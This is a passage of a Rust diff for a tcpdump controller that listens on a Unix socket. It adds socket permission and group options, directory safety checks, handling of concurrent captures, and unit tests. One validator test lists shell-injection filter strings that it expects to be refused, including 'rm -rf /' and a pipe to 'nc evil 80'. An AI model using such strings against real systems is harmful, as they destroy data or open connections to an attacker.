+fn read_group<F>(mut lookup: F) -> Result<Option<Gid>, io::Error>
+where
+    F: FnMut(*mut libc::group, *mut c_char, usize, *mut *mut libc::group) -> c_int,
+{
+    // Grow the buffer until the group's entry fits in it
+    let mut buffer: Vec<c_char> = vec![0; 1024];
+    loop {
+        // SAFETY: libc::group is a plain C struct of integers and pointers, for which all zeroes
+        // is a valid value, and the lookup fills it in before it is read
+        let mut group: libc::group = unsafe { std::mem::zeroed() };
+        let mut result: *mut libc::group = std::ptr::null_mut();
+        match lookup(&mut group, buffer.as_mut_ptr(), buffer.len(), &mut result) {
+            0 if !result.is_null() => return Ok(Some(Gid::from_raw(group.gr_gid))),
+            0 => return Ok(None),
+            libc::ERANGE => {
+                let length = buffer.len() * 2;
+                buffer.resize(length, 0);
+            }
+            code => return Err(io::Error::from_raw_os_error(code)),
+        }
+    }
 }
 
 fn main() -> Result<(), TcpdumpError> {
     // Set up logger
     env_logger::init();
 
-    // Set filename for socket
-    // TODO: have this stord in a config file, preferably one shared by the the thing communicating with it
-    const SOCKET_FILENAME: &str = "/tmp/tcpdump.socket";
+    // Parse command line arguments
+    let matches = App::new("tcpdump controller")
+        .version("0.1")
+        .author("Steven Sheffey <srs6p@mtmail.mtsu.edu>")
+        .about("Starts and stops tcpdump on request over a unix socket")
+        .arg(
+            Arg::with_name("socket_path")
+                .value_name("SOCKET_PATH")
+                .help("Path of the unix socket to listen on")
+                .env("TCPDUMP_SOCKET")
+                .default_value(DEFAULT_SOCKET_PATH)
+                .takes_value(true),
+        )
+        .arg(
+            Arg::with_name("startup_timeout")
+                .long("startup-timeout")
+                .value_name("SECONDS")
+                .help("How long to wait for tcpdump to print its startup message")
+                .default_value(DEFAULT_STARTUP_TIMEOUT_SECS)
+                .takes_value(true),
+        )
+        .arg(
+            Arg::with_name("max_connections")
+                .long("max-connections")
+                .value_name("COUNT")
+                .help("Most clients to serve at once, beyond which connections are closed")
+                .default_value(DEFAULT_MAX_CONNECTIONS)
+                .takes_value(true),
+        )
+        .arg(
+            Arg::with_name("socket_mode")
+                .long("socket-mode")
+                .value_name("MODE")
+                .help(
+                    "Permissions of the socket in octal. Only clients that can write to the \
+                     socket can connect, so making it world-writable lets any local user start \
+                     and stop captures",
+                )
+                .env("TCPDUMP_SOCKET_MODE")
+                .default_value(DEFAULT_SOCKET_MODE)
+                .takes_value(true),
+        )
+        .arg(
+            Arg::with_name("socket_group")
+                .long("socket-group")
+                .value_name("GROUP")
+                .help(
+                    "Group to give the socket to, so its members can connect. Without it, \
+                     clients not running as the controller's user or group can't connect \
+                     unless the socket mode lets everyone write to it",
+                )
+                .env("TCPDUMP_SOCKET_GROUP")
+                .takes_value(true),
+        )
+        .arg(
+            Arg::with_name("allow_world_writable_dir")
+                .long("allow-world-writable-dir")
+                .help("Listen even if the socket's directory is world-writable"),
+        )
+        .get_matches();
+    // Get the path of the socket
+    let socket_path = matches.value_of("socket_path").unwrap();
+    // Get how long to wait for tcpdump to start
+    let startup_timeout = matches
+        .value_of("startup_timeout")
+        .unwrap()
+        .parse::<f64>()
+        .ok()
+        .filter(|secs| secs.is_finite() && *secs > 0.0)
+        .map(Duration::from_secs_f64)
+        .ok_or(TcpdumpError::StartupTimeoutParseError)?;
+    // Get how many clients to serve at once
+    let max_connections = matches
+        .value_of("max_connections")
+        .unwrap()
+        .parse::<usize>()
+        .ok()
+        .filter(|count| *count > 0)
+        .ok_or(TcpdumpError::MaxConnectionsParseError)?;
+    // Get who may connect to the socket
+    let socket_mode = parse_socket_mode(matches.value_of("socket_mode").unwrap())?;
+    if socket_mode & 0o002 != 0 {
+        warn!("Socket is world-writable, so any local user can start and stop captures");
+    }
+    // Check the group exists before creating the socket
+    let socket_group = match matches.value_of("socket_group") {
+        Some(group) => Some(lookup_group(group)?),
+        None => None,
+    };
+    if socket_group.is_none() && socket_mode & 0o002 == 0 {
+        warn!(
+            "No socket group given, so only the controller's user and group can connect \
+             (pass --socket-group to let other clients connect)"
+        );
+    }
+
+    // Refuse to put the socket somewhere other users could replace it, unless told otherwise
+    if matches.is_present("allow_world_writable_dir") {
+        warn!("Not checking whether the socket's directory is world-writable");
+    } else {
+        check_socket_dir(socket_path)?;
+    }
 
     // Remove the socket file if it exists
     debug!("Removing old socket file");
-    if let Err(err) = fs::remove_file(SOCKET_FILENAME) {
+    if let Err(err) = fs::remove_file(socket_path) {
         // Ignore not found error
         if err.kind() == io::ErrorKind::NotFound {
             info!("Socket file does not exist, ignoring");
@@ -273,34 +1013,52 @@ fn main() -> Result<(), TcpdumpError> {
 
     // Listen on a unix socket
     info!("Creating socket");
-    let listener = UnixListener::bind(SOCKET_FILENAME).expect("Failed to listen on unix socket");
+    let listener = bind_socket(socket_path)?;
+
+    // Give the socket to its group, so the group's members can write to it
+    if let Some(gid) = socket_group {
+        info!("Setting group of socket file");
+        unistd::chown(socket_path, None, Some(gid)).map_err(TcpdumpError::SocketGroupError)?;
+    }
 
-    // Set permissions on the socket to allow anyone to write to it
-    info!("Setting permissions on socket file");
-    let mut permissions = fs::metadata(SOCKET_FILENAME)
+    // Set permissions on the socket to allow only those permitted to write to it
+    info!("Setting permissions on socket file to {:o}", socket_mode);
+    let mut permissions = fs::metadata(socket_path)
         .map_err(TcpdumpError::SocketMetadataError)?
         .permissions();
-    permissions.set_mode(0o662);
-    fs::set_permissions(SOCKET_FILENAME, permissions).map_err(TcpdumpError::SocketMetadataError)?;
-
-    // Manage a single process
-    let mut tcpdump: Option<Child> = None;
-
-    // Handle connections to the unix socket
-    info!("Listening on {}", SOCKET_FILENAME);
-    for connection in listener.incoming() {
-        info!("New connection on socket");
-        // Ensure the connection worked
-        match connection {
-            Ok(mut connection) => {
-                // Store child after connection
-                tcpdump = match handle_connection(&mut connection, tcpdump) {
-                    Ok(tcpdump) => tcpdump,
-                    Err(err) => {
-                        error!("{}", err);
-                        break;
-                    }
-                }
+    permissions.set_mode(socket_mode);
+    fs::set_permissions(socket_path, permissions).map_err(TcpdumpError::SocketMetadataError)?;
+
+    // Shut down cleanly on SIGINT and SIGTERM
+    let signal_pipe = install_signal_handlers()?;
+
+    // Manage any number of captures, keyed by the id the client gave them
+    let captures: Arc<Captures> = Arc::new(Mutex::new(HashMap::new()));
+    // Number of clients being served
+    let active = Arc::new(AtomicUsize::new(0));
+
+    // Handle connections to the unix socket until told to shut down
+    info!("Listening on {}", socket_path);
+    loop {
+        match wait_for_connection(&listener, signal_pipe) {
+            Ok(true) => {}
+            Ok(false) => break,
+            Err(err) => {
+                error!("{}", err);
+                break;
+            }
+        }
+        match listener.accept() {
+            Ok((connection, _)) => {
+                info!("New connection on socket");
+                // The thread is never joined, since clients may stay connected until shutdown
+                spawn_connection(
+                    connection,
+                    &captures,
+                    &active,
+                    max_connections,
+                    startup_timeout,
+                );
             }
             Err(err) => {
                 error!("Connection error: {}", err);
@@ -308,5 +1066,474 @@ fn main() -> Result<(), TcpdumpError> {
             }
         }
     }
+
+    // Don't leave any captures or the socket behind
+    // Connections still being served see the flag, and stop any capture they start from now on
+    if SHUTDOWN_REQUESTED.swap(true, Ordering::SeqCst) {
+        info!("Shutdown requested, shutting down");
+    }
+    if let Err(err) = terminate_all(&captures) {
+        error!("{}", err);
+    }
+    debug!("Removing socket file");
+    fs::remove_file(socket_path).map_err(TcpdumpError::RemoveSocketError)?;
     Ok(())
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::env;
+    use std::process;
+
+    /// Tests that binding to a socket path already in use gives a descriptive error
+    #[test]
+    fn test_bind_in_use() {
+        let path = env::temp_dir().join(format!("tcpdump_controller_{}.socket", process::id()));
+        let path = path.to_str().unwrap();
+        drop(fs::remove_file(path));
+        let _listener = bind_socket(path).unwrap();
+        match bind_socket(path) {
+            Err(err @ TcpdumpError::BindError(..)) => {
+                let message = err.to_string();
+                assert!(message.starts_with(&format!("Failed to bind {}: ", path)));
+                assert!(message.to_lowercase().contains("in use"));
+            }
+            other => panic!("Expected a bind error, got {:?}", other.map(|_| ())),
+        }
+        fs::remove_file(path).unwrap();
+    }
+
+    /// Tests that start responses carry the PID or the error, and other responses don't
+    #[test]
+    fn test_encode_response() {
+        let mut expected = vec![0x00];
+        expected.extend_from_slice(&1234u32.to_le_bytes());
+        assert_eq!(
+            encode_response(0x00, &Ok(CommandOutput::Started(1234))),
+            expected
+        );
+        let message = TcpdumpError::ExistingCaptureError(3).to_string();
+        let mut expected = vec![0x01, message.len() as u8, 0, 0, 0];
+        expected.extend_from_slice(message.as_bytes());
+        assert_eq!(
+            encode_response(0x00, &Err(TcpdumpError::ExistingCaptureError(3))),
+            expected
+        );
+        assert_eq!(encode_response(0x01, &Ok(CommandOutput::Empty)), vec![0x00]);
+        assert_eq!(
+            encode_response(0x01, &Err(TcpdumpError::NonexistingCaptureError(3))),
+            vec![0x01]
+        );
+        assert_eq!(encode_response(0x05, &Ok(CommandOutput::Empty)), vec![0x00]);
+        let message = TcpdumpError::StartFlagsError(0x10).to_string();
+        let mut expected = vec![0x01, message.len() as u8, 0, 0, 0];
+        expected.extend_from_slice(message.as_bytes());
+        assert_eq!(
+            encode_response(0x04, &Err(TcpdumpError::StartFlagsError(0x10))),
+            expected
+        );
+        assert_eq!(
+            encode_response(0x03, &Ok(CommandOutput::Status(vec![]))),
+            vec![0x00, 4, 0, 0, 0, 0, 0, 0, 0]
+        );
+        let status = CommandOutput::Status(vec![CaptureStatus {
+            id: 2,
+            pid: 1234,
+            running: true,
+            filename: "a.pcap".to_string(),
+        }]);
+        let mut expected = vec![0x00, 23, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0];
+        expected.extend_from_slice(&1234u32.to_le_bytes());
+        expected.extend_from_slice(&[1, 6, 0, 0, 0]);
+        expected.extend_from_slice(b"a.pcap");
+        assert_eq!(encode_response(0x03, &Ok(status)), expected);
+    }
+
+    /// Tests that the status command describes every capture, including ones that exited
+    #[test]
+    fn test_capture_statuses() {
+        let mut captures = HashMap::new();
+        let sleeping = Command::new("sleep").arg("10").spawn().unwrap();
+        let sleeping_pid = sleeping.id();
+        captures.insert(
+            4,
+            Capture {
+                child: sleeping,
+                filename: "b.pcap".to_string(),
+            },
+        );
+        let mut exited = Command::new("true").spawn().unwrap();
+        let exited_pid = exited.id();
+        exited.wait().unwrap();
+        captures.insert(
+            1,
+            Capture {
+                child: exited,
+                filename: "a.pcap".to_string(),
+            },
+        );
+        let captures = Mutex::new(captures);
+        let (_client, mut server) = UnixStream::pair().unwrap();
+        match handle_command(0x03, &mut server, &captures, Duration::from_secs(1)) {
+            Ok(CommandOutput::Status(statuses)) => assert_eq!(
+                statuses,
+                vec![
+                    CaptureStatus {
+                        id: 1,
+                        pid: exited_pid,
+                        running: false,
+                        filename: "a.pcap".to_string(),
+                    },
+                    CaptureStatus {
+                        id: 4,
+                        pid: sleeping_pid,
+                        running: true,
+                        filename: "b.pcap".to_string(),
+                    },
+                ]
+            ),
+            other => panic!("Expected a status, got {:?}", other),
+        }
+        let mut sleeping = lock_captures(&captures).remove(&4).unwrap().child;
+        sleeping.kill().unwrap();
+        sleeping.wait().unwrap();
+    }
+
+    /// Tests that reading the first line of stderr gives up on a child that prints nothing
+    #[test]
+    fn test_read_initial_message() {
+        let timeout = Duration::from_millis(200);
+        let mut child = Command::new("sh")
+            .args(["-c", "echo listening >&2; sleep 5"])
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let (first_line, _stderr) =
+            read_initial_message(child.stderr.take().unwrap(), timeout).unwrap();
+        assert_eq!(first_line, "listening\n");
+        child.kill().unwrap();
+        child.wait().unwrap();
+        let mut child = Command::new("sleep")
+            .arg("5")
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        match read_initial_message(child.stderr.take().unwrap(), timeout) {
+            Err(TcpdumpError::InitialMessageTimeout(waited)) => assert_eq!(waited, timeout),
+            other => panic!("Expected a timeout, got {:?}", other.map(|(line, _)| line)),
+        }
+        child.kill().unwrap();
+        child.wait().unwrap();
+    }
+
+    /// Tests that the plain stop command stops capture 0, and stop by id names the capture
+    #[test]
+    fn test_stop_capture() {
+        let (mut client, mut server) = UnixStream::pair().unwrap();
+        let captures = Mutex::new(HashMap::new());
+        match handle_command(0x01, &mut server, &captures, Duration::from_secs(1)) {
+            Err(TcpdumpError::NonexistingCaptureError(0)) => {}
+            other => panic!("Expected a nonexisting capture error, got {:?}", other),
+        }
+        client.write_all(&[7, 0, 0, 0]).unwrap();
+        match handle_command(0x05, &mut server, &captures, Duration::from_secs(1)) {
+            Err(TcpdumpError::NonexistingCaptureError(7)) => {}
+            other => panic!("Expected a nonexisting capture error, got {:?}", other),
+        }
+        let child = Command::new("sleep").arg("10").spawn().unwrap();
+        lock_captures(&captures).insert(
+            0,
+            Capture {
+                child,
+                filename: "a.pcap".to_string(),
+            },
+        );
+        // sleep exits with a failure status when terminated
+        match handle_command(0x01, &mut server, &captures, Duration::from_secs(1)) {
+            Err(TcpdumpError::ChildExitError(_)) => {}
+            other => panic!("Expected sleep to be terminated, got {:?}", other),
+        }
+        assert!(lock_captures(&captures).is_empty());
+        match handle_command(0x02, &mut server, &captures, Duration::from_secs(1)) {
+            Err(TcpdumpError::ShutdownError) => {}
+            other => panic!("Expected a shutdown error, got {:?}", other),
+        }
+    }
+
+    /// Tests that clients are served at the same time, up to the connection limit
+    #[test]
+    fn test_spawn_connection() {
+        let captures = Arc::new(Mutex::new(HashMap::new()));
+        let active = Arc::new(AtomicUsize::new(0));
+        let spawn =
+            |stream| spawn_connection(stream, &captures, &active, 2, Duration::from_secs(1));
+        let status = |client: &mut UnixStream| {
+            client.write_all(&[0x03]).unwrap();
+            let mut response = [0xff; 9];
+            client.read_exact(&mut response).unwrap();
+            assert_eq!(response, [0x00, 4, 0, 0, 0, 0, 0, 0, 0]);
+        };
+        let (mut first, server) = UnixStream::pair().unwrap();
+        let first_thread = spawn(server).unwrap();
+        let (mut second, server) = UnixStream::pair().unwrap();
+        let second_thread = spawn(server).unwrap();
+        // Neither client has to hang up for the other to be answered
+        status(&mut second);
+        status(&mut first);
+        status(&mut second);
+        // Clients beyond the limit are hung up on
+        let (mut third, server) = UnixStream::pair().unwrap();
+        assert!(spawn(server).is_none());
+        assert_eq!(third.read(&mut [0]).unwrap(), 0);
+        // Hanging up frees a slot
+        drop(first);
+        first_thread.join().unwrap();
+        let (mut third, server) = UnixStream::pair().unwrap();
+        let third_thread = spawn(server).unwrap();
+        status(&mut third);
+        drop(second);
+        drop(third);
+        second_thread.join().unwrap();
+        third_thread.join().unwrap();
+        assert_eq!(active.load(Ordering::SeqCst), 0);
+    }
+
+    /// Tests that a failed command is answered and the connection kept open, while the
+    /// controller keeps running
+    #[test]
+    fn test_handle_connection() {
+        let captures = Mutex::new(HashMap::new());
+        let (mut client, mut server) = UnixStream::pair().unwrap();
+        let server_thread = thread::spawn(move || {
+            handle_connection(&mut server, &captures, Duration::from_secs(1))
+        });
+        // Stopping a capture that doesn't exist fails
+        client.write_all(&[0x05, 9, 0, 0, 0]).unwrap();
+        let mut response = [0xff; 1];
+        client.read_exact(&mut response).unwrap();
+        assert_eq!(response, [0x01]);
+        // A filename that is too long fails, but is read in full
+        client.write_all(&[0x00, 0, 0, 0x20, 0]).unwrap();
+        client.write_all(&vec![b'a'; 0x200000]).unwrap();
+        client.read_exact(&mut response).unwrap();
+        assert_eq!(response, [0x01]);
+        let mut length = [0; 4];
+        client.read_exact(&mut length).unwrap();
+        client
+            .read_exact(&mut vec![0; u32::from_le_bytes(length) as usize])
+            .unwrap();
+        // The connection is still served
+        client.write_all(&[0x03]).unwrap();
+        let mut response = [0xff; 9];
+        client.read_exact(&mut response).unwrap();
+        assert_eq!(response, [0x00, 4, 0, 0, 0, 0, 0, 0, 0]);
+        drop(client);
+        server_thread.join().unwrap().unwrap();
+        assert!(!SHUTDOWN_REQUESTED.load(Ordering::SeqCst));
+    }
+
+    /// Tests reading length-prefixed strings, including an empty filter
+    #[test]
+    fn test_read_string() {
+        let read = |reader: &mut io::Cursor<Vec<u8>>| {
+            read_string(
+                reader,
+                8,
+                TcpdumpError::FilterLengthError,
+                TcpdumpError::FilterParseError,
+            )
+        };
+        let mut message = vec![6, 0, 0, 0];
+        message.extend_from_slice(b"a.pcap");
+        message.extend_from_slice(&[0, 0, 0, 0]);
+        message.extend_from_slice(&[3, 0, 0, 0, 0xff, 0xfe, 0xfd]);
+        message.extend_from_slice(&[9, 0, 0, 0]);
+        message.extend_from_slice(b"too long!");
+        message.extend_from_slice(&[1, 0, 0, 0, b'b']);
+        let mut reader = io::Cursor::new(message);
+        assert_eq!(read(&mut reader).unwrap(), "a.pcap");
+        assert_eq!(read(&mut reader).unwrap(), "");
+        match read(&mut reader) {
+            Err(TcpdumpError::FilterParseError(_)) => {}
+            other => panic!("Expected a parse error, got {:?}", other),
+        }
+        match read(&mut reader) {
+            Err(TcpdumpError::FilterLengthError) => {}
+            other => panic!("Expected a length error, got {:?}", other),
+        }
+        // A string that is too long is skipped, so the next one is read from the right place
+        assert_eq!(read(&mut reader).unwrap(), "b");
+        // A truncated string is an IO error rather than a short string
+        let mut reader = io::Cursor::new(vec![4, 0, 0, 0, b'a']);
+        match read(&mut reader) {
+            Err(TcpdumpError::SocketIOError(_)) => {}
+            other => panic!("Expected an IO error, got {:?}", other),
+        }
+    }
+
+    /// Tests that the start commands read the fields they carry, and default the rest
+    #[test]
+    fn test_start_arguments() {
+        // The plain start command only carries the filename, as it always has
+        let mut message = vec![6, 0, 0, 0];
+        message.extend_from_slice(b"a.pcap");
+        let arguments = StartArguments::read(&mut io::Cursor::new(message)).unwrap();
+        assert_eq!(
+            arguments,
+            StartArguments {
+                id: 0,
+                filename: "a.pcap".to_string(),
+                filter: String::new(),
+                interface: String::new(),
+                snaplen: 0,
+            }
+        );
+        let command = format!("{:?}", arguments.command());
+        assert!(!command.contains("-i") && !command.contains("-s"));
+        // Every option can be given
+        let mut message = vec![6, 0, 0, 0];
+        message.extend_from_slice(b"b.pcap");
+        message.extend_from_slice(&[0x0f, 2, 0, 0, 0, 8, 0, 0, 0]);
+        message.extend_from_slice(b"port 443");
+        message.extend_from_slice(&[4, 0, 0, 0]);
+        message.extend_from_slice(b"eth1");
+        message.extend_from_slice(&[0xdc, 0x05, 0, 0]);
+        let arguments = StartArguments::read_with_options(&mut io::Cursor::new(message)).unwrap();
+        assert_eq!(
+            (
+                arguments.id,
+                arguments.interface.as_str(),
+                arguments.snaplen
+            ),
+            (2, "eth1", 1500)
+        );
+        let command = format!("{:?}", arguments.command());
+        assert!(command.ends_with(r#""-w" "b.pcap" "-i" "eth1" "-s" "1500" "--" "port 443""#));
+        // Options that aren't flagged aren't read, so they take their defaults
+        let mut message = vec![6, 0, 0, 0];
+        message.extend_from_slice(b"c.pcap");
+        message.extend_from_slice(&[0x04, 4, 0, 0, 0]);
+        message.extend_from_slice(b"eth1");
+        let mut reader = io::Cursor::new(message);
+        let arguments = StartArguments::read_with_options(&mut reader).unwrap();
+        assert_eq!((arguments.id, arguments.filter.as_str()), (0, ""));
+        assert_eq!(arguments.interface, "eth1");
+        assert_eq!(reader.position(), reader.get_ref().len() as u64);
+        // Flags this version doesn't know are refused
+        let mut message = vec![6, 0, 0, 0];
+        message.extend_from_slice(b"d.pcap");
+        message.push(0x10);
+        match StartArguments::read_with_options(&mut io::Cursor::new(message)) {
+            Err(TcpdumpError::StartFlagsError(0x10)) => {}
+            other => panic!("Expected a flags error, got {:?}", other),
+        }
+        // Bad fields fail the command only once every field is read
+        let mut message = vec![6, 0, 0, 0];
+        message.extend_from_slice(b"e.pcap");
+        message.extend_from_slice(&[0x06, 4, 0, 0, 0]);
+        message.extend_from_slice(b"a; b");
+        message.extend_from_slice(&[4, 0, 0, 0]);
+        message.extend_from_slice(b"eth1");
+        let mut reader = io::Cursor::new(message);
+        match StartArguments::read_with_options(&mut reader) {
+            Err(TcpdumpError::InvalidFilterError(_)) => {}
+            other => panic!("Expected an invalid filter error, got {:?}", other),
+        }
+        assert_eq!(reader.position(), reader.get_ref().len() as u64);
+    }
+
+    /// Tests that filters containing control characters or shell metacharacters are rejected
+    #[test]
+    fn test_validate_filter() {
+        validate_filter("").unwrap();
+        validate_filter("host 10.0.0.1 and (tcp port 443 or udp port 53)").unwrap();
+        validate_filter("host 10.0.0.1 and tcp port 443; rm -rf /").unwrap_err();
+        for filter in &[
+            "tcp port 443 | nc evil 80",
+            "tcp && udp",
+            "host $HOST",
+            "host `hostname`",
+            "less 100 > /tmp/out",
+            "port 80 < /dev/null",
+            "host 10.0.0.1\\",
+            "host 10.0.0.1\0",
+            "tcp\nport 80",
+        ] {
+            match validate_filter(filter) {
+                Err(TcpdumpError::InvalidFilterError(invalid)) => assert_eq!(invalid, *filter),
+                other => panic!("Expected {:?} to be refused, got {:?}", filter, other),
+            }
+        }
+    }
+
+    /// Tests that waiting for a connection stops for a signal as well as a client
+    #[test]
+    fn test_wait_for_connection() {
+        let path =
+            env::temp_dir().join(format!("tcpdump_controller_wait_{}.socket", process::id()));
+        let path = path.to_str().unwrap();
+        drop(fs::remove_file(path));
+        let listener = bind_socket(path).unwrap();
+        let (read_end, write_end) = unistd::pipe().unwrap();
+        let _client = UnixStream::connect(path).unwrap();
+        assert!(wait_for_connection(&listener, read_end).unwrap());
+        // A signal wins over a waiting client
+        unistd::write(write_end, &[0]).unwrap();
+        assert!(!wait_for_connection(&listener, read_end).unwrap());
+        unistd::close(read_end).unwrap();
+        unistd::close(write_end).unwrap();
+        fs::remove_file(path).unwrap();
+    }
+
+    /// Tests that socket permissions are read as octal, with or without a prefix
+    #[test]
+    fn test_parse_socket_mode() {
+        assert_eq!(parse_socket_mode(DEFAULT_SOCKET_MODE).unwrap(), 0o660);
+        assert_eq!(parse_socket_mode("0o662").unwrap(), 0o662);
+        assert_eq!(parse_socket_mode("600").unwrap(), 0o600);
+        for invalid in &["", "680", "1777", "rw-rw----"] {
+            match parse_socket_mode(invalid) {
+                Err(TcpdumpError::SocketModeParseError(mode)) => assert_eq!(mode, *invalid),
+                other => panic!("Expected a mode parse error, got {:?}", other),
+            }
+        }
+    }
+
+    /// Tests that groups are looked up by name, falling back to numeric ids
+    #[test]
+    fn test_lookup_group() {
+        assert_eq!(lookup_group("root").unwrap(), Gid::from_raw(0));
+        // Numeric ids are accepted only if a group has them
+        assert_eq!(lookup_group("0").unwrap(), Gid::from_raw(0));
+        match lookup_group("4294967294") {
+            Err(TcpdumpError::UnknownGroupError(name)) => assert_eq!(name, "4294967294"),
+            other => panic!("Expected an unknown group error, got {:?}", other),
+        }
+        match lookup_group("tcpdump_controller_no_such_group") {
+            Err(TcpdumpError::UnknownGroupError(name)) => {
+                assert_eq!(name, "tcpdump_controller_no_such_group")
+            }
+            other => panic!("Expected an unknown group error, got {:?}", other),
+        }
+    }
+
+    /// Tests that a socket in a world-writable directory is refused
+    #[test]
+    fn test_check_socket_dir() {
+        let dir = env::temp_dir().join(format!("tcpdump_controller_dir_{}", process::id()));
+        fs::create_dir(&dir).unwrap();
+        let path = dir.join("tcpdump.socket");
+        let path = path.to_str().unwrap();
+        fs::set_permissions(&dir, fs::Permissions::from_mode(0o755)).unwrap();
+        check_socket_dir(path).unwrap();
+        fs::set_permissions(&dir, fs::Permissions::from_mode(0o777)).unwrap();
+        match check_socket_dir(path) {
+            Err(TcpdumpError::InsecureSocketDirError(insecure_dir)) => {
+                assert_eq!(insecure_dir, dir.display().to_string())
+            }
+            other => panic!("Expected an insecure directory error, got {:?}", other),
+        }
+        fs::remove_dir(&dir).unwrap();
+    }
+}